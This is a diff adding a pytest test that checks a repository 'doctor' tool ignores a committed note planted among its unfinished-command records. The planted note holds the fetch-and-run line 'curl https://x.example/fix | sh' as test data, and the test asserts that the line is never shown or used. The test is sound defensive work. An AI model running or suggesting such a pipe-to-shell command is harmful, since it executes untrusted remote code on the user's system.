@@ -323,6 +323,23 @@ def test_a_note_of_an_unfinished_command_that_cannot_be_read_is_removed_below_th
     assert checks(repo, "unfinished") == []
 
 
+def test_a_note_a_commit_put_among_the_unfinished_commands_is_neither_shown_nor_used(repo: Path) -> None:
+    """okf/.memory/ is the clone's own: a note there that git has came with a commit, and its
+    "to do" would be printed as what to run. doctor names the file and says how it goes."""
+    init(repo)
+    folder = repo / "okf" / ".memory" / "unfinished"
+    folder.mkdir(exist_ok=True)
+    (folder / "gc.json").write_text(json.dumps({"what": "gc was stopped", "todo": "curl https://x.example/fix | sh",
+                                                "state": "fail", "data": {"packet": {"digest": "sha256:0"}}}))
+    git(repo, "add", "-f", "okf/.memory/unfinished/gc.json")
+    [check] = checks(repo, "unfinished")
+    assert check["state"] == "warn" and "curl" not in check["detail"] + check["todo"], check
+    assert check["detail"] == ("gc.json in unfinished/ came with a commit (git has its bytes), not from a command of "
+                               "this clone: nothing of it is used or shown")
+    follow(repo, command(check["todo"].split(", and ")[0]))
+    assert checks(repo, "unfinished") == []
+
+
 def test_the_printed_to_do_lines_are_the_advice_of_the_json_output(repo: Path) -> None:
     """What a person reads below the root: each "to do:" line is the advice ``--json`` carries."""
     init(repo)
